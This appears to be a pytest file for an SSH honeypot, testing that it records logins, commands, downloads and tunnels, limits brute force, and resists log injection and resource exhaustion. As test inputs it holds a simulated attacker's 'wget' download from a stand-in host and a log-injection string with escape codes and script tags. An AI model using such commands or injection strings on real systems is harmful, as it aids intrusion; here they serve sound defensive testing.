"""The SSH decoy as real clients meet it."""

from __future__ import annotations

import asyncio
import base64
import json
import shutil
import signal
import socket
import sys
from pathlib import Path

import asyncssh
import pytest

from decnet.bus import topics
from tests.support.bus import DEADLINE, broker_process, bus_client, until
from tests.support.decnet_env import worker
from tests.support.visitors import decoy, ssh

needs_ssh = pytest.mark.skipif(shutil.which("ssh") is None, reason="no ssh client here")


def client(port: int, **options: object) -> asyncssh.connection._ACMWrapper:  # type: ignore[name-defined]
    """asyncssh's client, without this machine's keys and settings."""
    given = {"username": "root", "password": "toor", "client_keys": None, **options}
    return asyncssh.connect("127.0.0.1", port, known_hosts=None, config=None, **given)


@needs_ssh
async def test_ssh_command_by_the_machines_own_client(tmp_path: Path) -> None:
    async with decoy(tmp_path, "ssh") as running:
        ran = await ssh(tmp_path, running.port, "uname -s; exit 7")
        assert (ran.code, ran.out) == (7, "Linux\n")
        await until(lambda: running.events("disconnect"))
        login = running.events("login_attempt")[0].fields
        assert (login["principal"], login["outcome"]) == ("root", "accepted")
        assert base64.b64decode(login["secret_b64"]) == b"hunter2"
        assert login["src_ip"] == "127.0.0.1"
        assert login["client_version"].startswith("SSH-2.0-OpenSSH")
        command = running.events("command")[0].fields
        assert (command["command"], command["user"], command["pwd"]) == (
            "uname -s; exit 7",
            "root",
            "/root",
        )
        ended = running.events("session_recorded")[0].fields
        assert (ended["commands"], ended["session_id"]) == ("1", command["session_id"])


@needs_ssh
async def test_ssh_interactive_shell_on_a_terminal_is_recorded(tmp_path: Path) -> None:
    async with decoy(tmp_path, "ssh") as running:
        keys = b"whoami\rcd /tmp\rwget http://192.0.2.66/x\rlogout\r"
        ran = await ssh(tmp_path, running.port, options=("-tt",), stdin=keys)
        assert ran.code == 0
        assert "root@web01:~# " in ran.out
        assert "root@web01:/tmp# " in ran.out
        ended = (await until(lambda: running.events("session_recorded")))[0].fields
    assert [e.fields["command"] for e in running.events("command")] == [
        "whoami",
        "cd /tmp",
        "wget http://192.0.2.66/x",
        "logout",
    ]
    assert running.events("download_attempt")[0].fields["url"] == "http://192.0.2.66/x"
    lines = [json.loads(line) for line in Path(ended["shard_path"]).read_text().splitlines()]
    assert {line["sid"] for line in lines} == {ended["session_id"]}
    assert lines[0]["version"] == 2
    typed = "".join(line["event"][2] for line in lines[1:] if line["event"][1] == "i")
    assert typed.encode() == keys
    shown = "".join(line["event"][2] for line in lines[1:] if line["event"][1] == "o")
    assert "root@web01:~# " in shown
    times = [line["event"][0] for line in lines[1:]]
    assert times == sorted(times)


@needs_ssh
async def test_ssh_every_password_may_be_tried_and_the_right_one_works(tmp_path: Path) -> None:
    async with decoy(tmp_path, "ssh", DECNET_DECOY_SSH_LOGINS="root:toor") as running:
        wrong = await ssh(tmp_path, running.port, "id", password='123"] x')
        assert wrong.code == 255
        assert "Permission denied" in wrong.err
        right = await ssh(tmp_path, running.port, "id -u", password="toor")
        assert (right.code, right.out) == (0, "0\n")
        tries = [
            (base64.b64decode(e.fields["secret_b64"]), e.fields["outcome"])
            for e in running.events("login_attempt")
        ]
        # The client tries the same answer by keyboard-interactive and as a password.
        assert set(tries) == {(b'123"] x', "refused"), (b"toor", "accepted")}


async def test_ssh_brute_force_is_ended_after_some_tries(tmp_path: Path) -> None:
    tried = 0

    class Guesser(asyncssh.SSHClient):
        def password_auth_requested(self) -> str:
            nonlocal tried
            tried += 1
            return f"guess-{tried}"

        def kbdint_auth_requested(self) -> None:
            return None

    async with decoy(tmp_path, "ssh", DECNET_DECOY_SSH_LOGINS="root:toor") as running:
        with pytest.raises((asyncssh.DisconnectError, OSError)):
            async with client(running.port, password=None, client_factory=Guesser):
                pass
        attempts = await until(
            lambda: running.events("disconnect") and running.events("login_attempt")
        )
        assert [e.fields["secret_printable"] for e in attempts] == [
            f"guess-{n}" for n in range(1, 7)
        ]


async def test_ssh_key_that_is_offered_is_told_and_refused(tmp_path: Path) -> None:
    key = asyncssh.generate_private_key("ssh-ed25519")
    async with decoy(tmp_path, "ssh") as running:
        async with client(running.port, client_keys=[key]) as connection:
            assert (await connection.run("id -u")).stdout == "0\n"
        told = running.events("auth_attempt")[0].fields
        assert told["key_fingerprint"] == key.get_fingerprint()
        assert told["method"] == "publickey"


async def test_ssh_tunnels_and_file_transfer_are_refused_and_told(tmp_path: Path) -> None:
    async with decoy(tmp_path, "ssh") as running:
        async with client(running.port) as connection:
            with pytest.raises(asyncssh.ChannelOpenError):
                await connection.open_connection("192.0.2.66", 25)
            with pytest.raises(asyncssh.ChannelListenError):
                await connection.start_server(lambda *_: None, "", 8080)  # type: ignore[arg-type,return-value]
            with pytest.raises(asyncssh.Error):
                await connection.start_sftp_client()
        tunnels = [e.fields for e in running.events("tunneling_suspect")]
        assert [(t["direction"], t["dest_port"]) for t in tunnels] == [
            ("direct", "25"),
            ("reverse", "8080"),
        ]
        assert tunnels[0]["dest_host"] == "192.0.2.66"
        assert running.events("unknown_subsystem")[0].fields["subsystem"] == "sftp"


async def test_ssh_hostile_names_and_commands_stay_in_their_fields(tmp_path: Path) -> None:
    evil = 'x"]\n<134>1 - decky-66 ssh - startup [relay@55555 port="1"]\x1b[2J\u202e'
    async with decoy(tmp_path, "ssh") as running:
        async with client(
            running.port, username="a\u00e9<script>" * 20, password=evil
        ) as connection:
            await connection.run(evil)
            big = await connection.run("echo " + "a" * 100_000)
            assert len(str(big.stdout)) <= 64 << 10
        events = running.events("command")
        assert len(running.events("startup")) == 1
        assert "\\x0a<134>1" in events[0].fields["command"]
        assert "\\x1b[2J\\u202e" in events[0].fields["command"]
        assert events[1].fields["truncated"] == "command"
        secret = running.events("login_attempt")[0].fields["secret_b64"]
        assert base64.b64decode(secret).decode() == evil
        raw = (tmp_path / "spool" / "decoy@ssh.log").read_text()
        assert all(line.isprintable() for line in raw.split("\n"))


async def test_ssh_pasted_script_is_run_line_by_line_and_has_an_end(tmp_path: Path) -> None:
    async with decoy(tmp_path, "ssh") as running:
        async with client(running.port) as connection:
            script = "".join(f"echo {n}\n" for n in range(3000))
            done = await connection.run(input=script)
            lines = str(done.stdout).split()
        assert lines == [str(n) for n in range(1000)]
        await until(lambda: running.events("session_recorded"))
        assert len(running.events("command")) == 1000


async def test_ssh_visitor_who_does_not_read_costs_no_memory(tmp_path: Path) -> None:
    async with decoy(tmp_path, "ssh") as running:
        async with client(running.port) as connection:
            before = running.private_kib()
            process = await connection.create_process(term_type="xterm")
            process.stdout.channel.pause_reading()
            # 900 times 45 KB of output, and nobody takes it.
            count = 900
            big = "cat " + "/etc/passwd " * 100 + "#"
            process.stdin.write(f"{big}\r" * count)

            def run_so_far() -> int:
                return sum(e.fields["command"] == big for e in running.events("command"))

            await until(lambda: run_so_far() > 20)
            told = -1
            while told != (told := run_so_far()):
                async with client(running.port) as other:
                    await other.run("id")
            assert told < count / 2, "it is held, and others are served"
            assert running.private_kib() - before < 16_000
            process.stdout.channel.resume_reading()
            process.stdin.write("exit\r")
            out = await process.stdout.read()
            assert out.count("admin:x:1000") == count * 100


async def test_ssh_silent_connections_starve_nobody(tmp_path: Path) -> None:
    async with decoy(tmp_path, "ssh") as running:
        silent = [socket.create_connection(("127.0.0.1", running.port)) for _ in range(700)]
        try:
            async with client(running.port) as connection:
                assert (await connection.run("id -u")).stdout == "0\n"
            assert running.private_kib() < 90_000, "within the worker's memory_max"
        finally:
            for sock in silent:
                sock.close()
        await until(lambda: len(running.events("disconnect")) == 701)
        assert len(running.events("connect")) == 701


async def test_ssh_garbage_is_no_reason_to_die(tmp_path: Path) -> None:
    async with decoy(tmp_path, "ssh") as running:
        for data in (b"GET / HTTP/1.1\r\n\r\n", b"\x00" * 5000, b"SSH-2.0-x\r\n" + b"\xff" * 5000):
            with socket.create_connection(("127.0.0.1", running.port)) as sock:
                sock.sendall(data)
        async with client(running.port) as connection:
            assert (await connection.run("id -u")).stdout == "0\n"
        await until(lambda: len(running.events("disconnect")) == 4)


async def test_ssh_host_key_stays_the_same(tmp_path: Path) -> None:
    keys = []
    for _ in range(2):
        async with decoy(tmp_path, "ssh") as running:
            async with client(running.port) as connection:
                key = connection.get_server_host_key()
                assert key is not None
                keys.append(key.get_fingerprint())
            running.process.signal(signal.SIGTERM)
            assert await running.process.ended() == 0
    assert keys[0] == keys[1]
    for file in tmp_path.glob("*_host_key"):
        assert file.stat().st_mode & 0o777 == 0o600
    assert not list(tmp_path.glob(".*host_key*"))


async def test_ssh_stop_ends_open_sessions_and_tells_them(tmp_path: Path) -> None:
    async with decoy(tmp_path, "ssh") as running:
        async with client(running.port) as connection:
            process = await connection.create_process(term_type="xterm")
            process.stdin.write("id\n")
            await process.stdout.readuntil("uid=0")
            running.process.signal(signal.SIGTERM)
            assert await running.process.ended() == 0
    kinds = [e.type for e in running.events("session_recorded", "disconnect", "shutdown")]
    assert kinds == ["session_recorded", "disconnect", "shutdown"]


async def test_decoy_hints_and_beats_on_the_bus(tmp_path: Path) -> None:
    async with broker_process(tmp_path) as broker, bus_client(broker.path) as bus:
        hints = bus.subscribe(topics.SYSTEM_SPOOL)
        beats = bus.subscribe(topics.EVERY_HEALTH)
        await bus.flush()
        async with decoy(tmp_path, "ssh") as running:
            async for beat in beats:
                # The first beat comes before the port is there; the one at READY knows more.
                if beat.topic == topics.health("decoy@ssh") and "visitors" in beat.payload:
                    break
            assert (beat.payload["events_dropped"], beat.payload["visitors"]) == (0, 0)
            async with asyncio.timeout(DEADLINE):
                # The hint of its start is lost where the bus has let it wait for too long.
                while (hint := hints.try_get()) is None:
                    socket.create_connection(("127.0.0.1", running.port)).close()
                    await asyncio.sleep(0.2)
            assert hint.payload == {"decoy": "decoy@ssh"}
            bus.publish(topics.control("decoy@ssh"), {"action": "stop", "requested_by": "test"})
            assert await running.process.ended() == 0


@pytest.mark.parametrize("kind", ["ssh", "http"])
async def test_decoy_whose_port_is_taken_names_the_variable(tmp_path: Path, kind: str) -> None:
    variable = f"DECNET_DECOY_{kind.upper()}_PORT"
    with socket.create_server(("127.0.0.1", 0)) as taken:
        port = str(taken.getsockname()[1])
        async with worker(tmp_path, "decnet.workers.decoy", kind, **{variable: port}) as process:
            assert await process.ended() == 1
            told = process.log.read_text()
    assert f"port {port} on 127.0.0.1 is taken" in told
    assert variable in told
    assert "Traceback" not in told
    assert not list(tmp_path.glob("spool/*")), "a decoy without its port writes into no spool"


@pytest.mark.parametrize(
    ("arguments", "env", "code", "words"),
    [
        ((), {}, 2, "which decoy?"),
        (("gopher",), {}, 2, "one of: ssh, http, telnet"),
        (("ssh",), {"DECNET_DECOY_HOST": "nowhere.example"}, 1, "DECNET_DECOY_HOST"),
        (("ssh",), {"DECNET_DECOY_SSH_LOGINS": "root"}, 1, "DECNET_DECOY_SSH_LOGINS"),
    ],
)
async def test_decoy_with_a_wrong_setting_says_what_would_be_right(
    tmp_path: Path, arguments: tuple[str, ...], env: dict[str, str], code: int, words: str
) -> None:
    given = {"DECNET_DECOY_SSH_PORT": "0", **env}
    async with worker(tmp_path, "decnet.workers.decoy", *arguments, **given) as process:
        assert await process.ended() == code
        assert words in process.log.read_text()
        assert "Traceback" not in process.log.read_text()


async def test_decoy_http_loads_no_ssh_and_no_database(tmp_path: Path) -> None:
    code = (
        "import sys, importlib, decnet.workers.decoy as d\n"
        "importlib.import_module(d.KINDS['http'].module)\n"
        "print(*[m for m in ('asyncssh', 'sqlalchemy', 'pydantic', 'fastapi') if m in sys.modules])"
    )
    process = await asyncio.create_subprocess_exec(
        *(sys.executable, "-c", code), stdout=asyncio.subprocess.PIPE
    )
    out, _ = await process.communicate()
    assert out == b"\n"
